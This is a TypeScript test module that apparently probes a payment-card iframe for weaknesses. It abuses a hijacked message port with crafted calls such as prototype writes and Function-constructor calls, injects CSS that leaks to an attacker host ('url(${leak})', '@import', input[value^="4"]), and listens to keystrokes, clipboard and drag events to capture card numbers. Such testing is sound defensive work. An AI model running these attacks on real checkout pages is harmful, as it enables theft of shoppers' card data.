import { typeIn, type AttackPages, type Victim } from '../attack-pages.ts'
import { BREACH, inPage, type Attack, type Learned } from '../attack.ts'
import { patches, spying } from './patches.ts'

/** A page that has kept the port between the checkout and the frame, with a card typed. */
export async function withPort(pages: AttackPages): Promise<Victim> {
  const victim = await pages.enter({ script: spying(patches.filter(({ name }) => name === 'MessageChannel')) })
  await typeIn(victim)
  return victim
}

const ASK = `const ask = (message) => new Promise((done) => {
  const id = Math.random().toString()
  stolen.addEventListener('message', ({ data }) => { if (data?.id === id) done(data) })
  stolen.postMessage({ id, ...message }); setTimeout(done, 250, 'no answer')
})
const raw = (value) => ({ type: 'RAW', value })
const call = (name, ...values) => ask({ type: 'APPLY', path: [name], argumentList: values.map(raw) });`

/** Calls over the stolen port; only those on the frame's list may be answered. */
const over = (name: string, does: string, code: string): Attack => ({
  name: `port: ${name}`,
  does,
  run: (_, victim) => inPage(victim, ASK + code),
})

const unanswered = (message: string): string =>
  `const answer = await ask(${message}); return [answer, answer === 'no answer' ? '' : '${BREACH}the frame answers']`

export const portAttacks: readonly Attack[] = [
  over(
    'is live',
    'asks for the focus, which is allowed: the control of those below',
    `const answer = await call('focus'); return answer === 'no answer' ? '${BREACH}the control is not answered' : answer`,
  ),
  over('read the root', 'reads all that the frame offers', unanswered(`{ type: 'GET', path: [] }`)),
  over('read a method', 'reads a method as a value', unanswered(`{ type: 'GET', path: ['open'] }`)),
  over('write', 'replaces a method', unanswered(`{ type: 'SET', path: ['submit'], value: raw(1) }`)),
  over(
    'prototype',
    'writes to the prototype',
    unanswered(`{ type: 'SET', path: ['__proto__', 'pan'], value: raw(1) }`),
  ),
  over(
    'constructor',
    'makes a function by a method’s constructor',
    unanswered(
      `{ type: 'CONSTRUCT', path: ['open', 'constructor'], argumentList: [raw('return document.body.innerHTML')] }`,
    ),
  ),
  over(
    'constructor by call',
    'calls the constructor of a method',
    unanswered(
      `{ type: 'APPLY', path: ['open', 'constructor'], argumentList: [raw('return document.body.innerHTML')] }`,
    ),
  ),
  over(
    'call of call',
    'goes one path further',
    unanswered(`{ type: 'APPLY', path: ['submit', 'call'], argumentList: [raw(null)] }`),
  ),
  over(
    'unlisted method',
    'calls a method that is not on the list',
    unanswered(`{ type: 'APPLY', path: ['toString'], argumentList: [] }`),
  ),
  over('new endpoint', 'asks for a port without a guard', unanswered(`{ type: 'ENDPOINT', path: [] }`)),
  over(
    'callback',
    'hands a callback in, which opens a port of its own',
    `const { port1, port2 } = new MessageChannel(); const got = []; port1.onmessage = ({ data }) => got.push(data); stolen.postMessage({ id: 'x', type: 'APPLY', path: ['open'], argumentList: [{ type: 'HANDLER', name: 'proxy', value: port2 }] }, [port2]); await pause(200); return [got, got.length ? '${BREACH}a second port' : '']`,
  ),
  over(
    'answers',
    'calls whatever is allowed and reads the answers',
    `return [await call('focus'), await call('refresh'), await call('restyle', { locale: 'en', appearance: { scheme: 'light' } }), await call('walletSession', 'https://apple-pay-gateway.apple.com/'), await call('authenticate')]`,
  ),
  over(
    'broken arguments',
    'hands in what no method expects, and reads the complaints',
    `return [await call('restyle'), await call('restyle', null), await call('open', { ticket: {}, locale: [], appearance: 1 }), await call('payByWallet', { wallet: '__proto__', paymentToken: { toString: 1 } }), await call('walletSession', { a: 1 })]`,
  ),
  over(
    'locale that is a path',
    'fetches something else by the locale',
    `return [await call('restyle', { locale: '../../api/checkout', appearance: { scheme: 'light' } }), await call('restyle', { locale: 'en?x=1#', appearance: { scheme: 'light' } })]`,
  ),
  over(
    'echoes',
    'listens to all that the frame says',
    `const got = []; stolen.addEventListener('message', ({ data }) => got.push(data)); await call('restyle', { locale: 'ru', appearance: { scheme: 'dark' } }); await call('focus'); await pause(150); return got`,
  ),
  {
    name: 'port: appearance that fetches',
    does: 'hands in colours that are addresses and rules that read what is typed',
    async run({ hostile }, victim) {
      const leak = `${hostile.listed}/leak`
      const values = [
        `url(${leak})`,
        `red;background:url(${leak})`,
        `#fff}input[value^="4"]{background:url(${leak})`,
        `#ffffff\\29;@import "${leak}"`,
      ]
      await inPage(
        victim,
        `${ASK} for (const accent of ${JSON.stringify(values)}) await call('restyle', { locale: 'en', appearance: { scheme: accent, accent, background: accent, text: accent, radius: accent } }); await pause(200)`,
      )
      return hostile.received.some((line) => line.includes('/leak'))
        ? [`${BREACH}the frame fetched from the attacker`]
        : []
    },
  },
]

/** Events that the page listens to while the shopper types, copies and drags. */
const LISTENED = {
  keys: ['keydown', 'keypress', 'keyup'],
  input: ['beforeinput', 'input', 'change', 'compositionupdate'],
  clipboard: ['copy', 'cut', 'paste'],
  selection: ['selectionchange', 'selectstart', 'select'],
  pointer: ['pointerdown', 'pointermove', 'mousedown', 'click', 'contextmenu'],
  drag: ['dragstart', 'dragover', 'drop', 'dragend'],
  focus: ['focusin', 'focusout', 'blur', 'focus'],
} as const

const LISTENING = Object.entries(LISTENED)
  .map(
    ([bag, types]) =>
      `for (const type of ${JSON.stringify(types)}) addEventListener(type, (event) => { if (type === 'dragover') event.preventDefault(); stash('${bag}', [event.key, event.code, event.data, event.target?.value, String(getSelection()), event.clipboardData?.getData('text'), event.dataTransfer?.getData('text')]) }, true)`,
  )
  .join(';')

/** Keeps everything that the browser measures while the shopper types. */
const MEASURING = `globalThis.measured = []; for (const type of PerformanceObserver.supportedEntryTypes) new PerformanceObserver((list) => measured.push(...list.getEntries())).observe({ type, buffered: true, durationThreshold: 16 });`

/** The measurements, and the values of the elements that they are about. */
const MEASURED = `return measured.map((entry) => [entry.name, JSON.stringify(entry), entry.target?.value, entry.element?.value, entry.sources?.map(({ node }) => node?.value)])`

/**
 * Types key by key, copies the number, and drags it out of the frame, or out of a field of the page's own; returns what
 * the page received of it, by kind.
 */
export async function intercept(
  pages: AttackPages,
  isOwnField = false,
): Promise<{ victim: Victim; observed: ReadonlyMap<string, Learned> }> {
  const victim = await pages.enter({
    script: MEASURING + LISTENING,
    before: '<textarea id="drop" style="width:300px;height:60px"></textarea><input id="own">',
  })
  const { card, canary, page } = victim
  const number = isOwnField ? page.locator('#own') : card.locator('[autocomplete="cc-number"]')
  await number.pressSequentially(canary.pan)
  if (!isOwnField) await typeIn(victim)
  await number.press('Control+a')
  await number.press('Control+c')
  const from = (await number.boundingBox())!
  const to = (await page.locator('#drop').boundingBox())!
  await page.mouse.move(from.x + 60, from.y + from.height / 2)
  await page.mouse.down()
  for (const part of [0.2, 0.6, 1])
    await page.mouse.move(from.x + 60 + (to.x - from.x) * part, from.y + (to.y + 20 - from.y) * part, { steps: 3 })
  await page.mouse.up()
  await page.waitForTimeout(100)
  const bags = (await page.evaluate('bags')) as Record<string, string[]>
  const observed = new Map<string, Learned>(Object.keys(LISTENED).map((name) => [`listens: ${name}`, bags[name] ?? []]))
  observed.set('measurements', await inPage(victim, MEASURED))
  observed.set('dropped text', [await page.locator('#drop').inputValue(), ...(bags['drag'] ?? [])])
  observed.set(
    'copied text',
    await inPage(
      victim,
      'return [await navigator.clipboard.readText().catch(String), await navigator.clipboard.read().catch(String)]',
    ),
  )
  return { victim, observed }
}
